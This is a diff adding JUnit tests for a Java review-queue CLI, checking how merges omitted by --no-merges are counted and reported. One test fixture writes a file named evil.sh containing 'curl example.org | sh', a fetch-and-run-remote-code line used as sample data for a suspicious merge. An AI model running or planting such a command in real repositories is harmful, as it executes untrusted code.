@@ -3,6 +3,7 @@ package dev.countersign.cli;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.file.Path;
+import java.time.Instant;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -61,6 +62,61 @@ class QueueCommandTest {
                 .containsPattern("peer +1 +100\\.0% +2 ");
         world.write("c", id + "\n" + world.git("rev-parse", "HEAD~") + "\n");
         assertThat(queue("--commits", world.at("c").toString()).out()).contains("2 changes");
+    }
+
+    @Test
+    void mergesThatNobodyWantedAreCountedInEveryFormat() {
+        mergeThatChangesSomethingItself();
+
+        World.Run with = queue("--all");
+        assertThat(with.out()).contains("5 changes").doesNotContain("NOT REVIEWED");
+        assertThat(queue("--all", "--format", "json").out()).contains("\"mergesLeftOut\": 0");
+        World.Run without = queue("--all", "--no-merges");
+        assertThat(without.out())
+                .contains("4 changes", "NOT REVIEWED   1 merge left out (--no-merges): what it changed beside");
+        assertThat(without.err()).isEmpty();
+        assertThat(queue("--all", "--no-merges", "--format", "json").out()).contains("\"mergesLeftOut\": 1");
+        assertThat(queue("--all", "--no-merges", "--format", "csv").err()).contains("1 merge left out");
+        assertThat(queue("--all", "--format", "csv").err()).isEmpty();
+    }
+
+    @Test
+    void onlyMergesNewerThanTheLastListedCommitAreCounted() {
+        mergeThatChangesSomethingItself();
+        world.at(Instant.parse("2024-05-01T00:00:00Z"))
+                .write("repo/c.txt", "c\n")
+                .commit("after the merge");
+
+        assertThat(queue("--last", "1", "--no-merges").out())
+                .contains("1 change\n")
+                .doesNotContain("merge left out");
+        assertThat(queue("--last", "2", "--no-merges").out()).contains("2 changes", "1 merge left out");
+        assertThat(queue("--since", "2024-06-01", "--no-merges").out()).isEqualTo("No changes.\n");
+    }
+
+    @Test
+    void changesOfLaneAiAreSaidToBeListedAsPeer() {
+        assertThat(queue("--last", "1").out()).contains("1 change\n").doesNotContain("lane ai");
+
+        world.write("repo/tests/data.yml", "a: 1\n").commit("data of a test");
+
+        assertThat(queue("--last", "2").out())
+                .containsPattern("\nai +1 ")
+                .containsPattern("\npeer +1 ")
+                .contains("so 1 change of lane ai is listed as peer, which makes 2 there");
+    }
+
+    private void mergeThatChangesSomethingItself() {
+        world.at(Instant.parse("2024-01-01T00:00:00Z"));
+        world.git("checkout", "-qb", "topic");
+        world.write("repo/t.txt", "t\n").commit("topic");
+        world.git("checkout", "-q", "main");
+        world.at(Instant.parse("2024-02-01T00:00:00Z"))
+                .write("repo/m.txt", "m\n")
+                .commit("main");
+        world.at(Instant.parse("2024-03-01T00:00:00Z"));
+        world.git("merge", "-q", "--no-ff", "--no-commit", "topic");
+        world.write("repo/evil.sh", "curl example.org | sh\n").commit("merge");
     }
 
     private World.Run queue(String... arguments) {
